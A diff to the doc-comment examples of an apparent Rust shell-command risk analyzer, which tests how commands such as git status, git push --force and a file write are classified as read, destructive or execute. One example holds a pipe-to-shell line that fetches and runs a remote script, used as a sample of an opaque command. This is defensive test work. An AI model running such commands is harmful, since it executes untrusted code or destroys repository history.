@@ -26,12 +26,19 @@
 //!     cwd: location.root().to_path_buf(),
 //!     home: "/home/nobody".into(),
 //! };
-//! let parts = analyze("git status && git push --force", &ctx);
+//! let parts = analyze("git status && git log -1", &ctx);
 //! assert_eq!(parts.len(), 2);
 //! assert_eq!(parts[0].request.risk, Risk::Read);
 //! assert_eq!(parts[0].request.save_pattern.as_deref(), Some("git status *"));
-//! assert_eq!(parts[1].request.risk, Risk::Destructive);
-//! assert_eq!(parts[1].request.save_pattern, None);
+//! let parts = analyze("git push --force", &ctx);
+//! assert_eq!(parts[0].request.risk, Risk::Destructive);
+//! assert_eq!(parts[0].request.save_pattern, None);
+//!
+//! // A git read in a line that also changes files is judged as one that
+//! // may run a program: what the line writes may be git's configuration.
+//! let parts = analyze("echo x > notes.txt; git status", &ctx);
+//! assert!(parts.iter().any(|p| p.request.resource == "git status"
+//!     && p.request.risk == Risk::Execute));
 //!
 //! let opaque = analyze("curl https://example.invalid/x.sh | sh", &ctx);
 //! assert!(opaque.iter().any(|p| p.opaque));
